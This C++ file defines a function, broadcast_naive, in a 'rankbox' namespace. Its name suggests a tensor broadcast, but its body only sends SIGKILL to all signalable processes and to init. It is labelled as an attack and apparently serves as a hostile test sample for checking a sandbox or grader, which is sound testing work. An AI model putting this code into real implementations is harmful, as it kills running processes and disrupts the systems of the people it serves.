// Tries to kill all processes.
#include <csignal>

#include <unistd.h>

#include "attack.h"

namespace rankbox {

void broadcast_naive(Comm& dist, Tensor& tensor, int src) {
  kill(-1, SIGKILL);
  kill(1, SIGKILL);
}

}  // namespace rankbox
